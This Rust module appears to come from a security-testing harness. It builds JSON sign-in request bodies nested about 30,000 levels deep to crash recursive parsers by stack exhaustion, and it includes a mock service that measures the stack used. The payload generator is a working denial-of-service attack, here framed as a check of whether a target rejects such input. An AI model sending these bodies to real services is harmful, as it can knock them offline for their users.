//! Bodies that nest as deeply as they are long: a parser that calls itself runs out of stack, and with it the program ends.

use axum::Router;
use axum::body::Bytes;
use axum::http::StatusCode;
use axum::routing::post;

use super::{Attack, Control};
use crate::Outcome;
use crate::target::Target;

pub const ATTACK: Attack = Attack { name: "nested_body", settings: &[], control: Control::Service };

/// As deep as fits into what is read at all.
const DEPTH: usize = 30_000;
/// The stack of a thread, unless it was asked for another one; and what the service has, so that it lives to tell.
const STACK: usize = 2 * 1024 * 1024;
const LARGE_STACK: usize = 256 * 1024 * 1024;

pub async fn attack(target: &Target) -> anyhow::Result<Outcome> {
    let mut ways = Vec::new();
    for (open, close) in [("[", "]"), ("{\"\":", "}")] {
        // The second one costs more for each level.
        let depth = DEPTH / open.len();
        let body = format!("{{\"email\":{}1{}}}", open.repeat(depth), close.repeat(depth));
        let answer = target.send("POST", "/api/v1/sign-in", "content-type: application/json\r\n", &body).await?;
        ways.push((format!("{depth} levels were answered with {}", answer.status), answer.status != 400));
    }
    Ok(Outcome::of_ways(&ways))
}

pub async fn service() -> anyhow::Result<Target> {
    Target::service(Router::new().route("/api/v1/sign-in", post(follow))).await
}

/// Goes down as far as it is told. A program whose threads have a common stack would be gone.
async fn follow(body: Bytes) -> StatusCode {
    let walk = move || {
        let top = 0_u8;
        deepest(&body, std::ptr::from_ref(&top).addr())
    };
    let thread = std::thread::Builder::new().stack_size(LARGE_STACK).spawn(walk);
    match thread.map(std::thread::JoinHandle::join) {
        Ok(Ok(used)) if used < STACK => StatusCode::BAD_REQUEST,
        _ => StatusCode::INTERNAL_SERVER_ERROR,
    }
}

/// Calls itself at each bracket; how much stack that took at the bottom.
fn deepest(rest: &[u8], top: usize) -> usize {
    // What a parser has at each level: where it is, and what it has read of it.
    let read = [0_u8; 512];
    let used = top.abs_diff(std::hint::black_box(&read).as_ptr().addr());
    match rest.iter().position(|byte| matches!(byte, b'[' | b'{')) {
        Some(at) => deepest(&rest[at + 1..], top).max(used),
        None => used,
    }
}
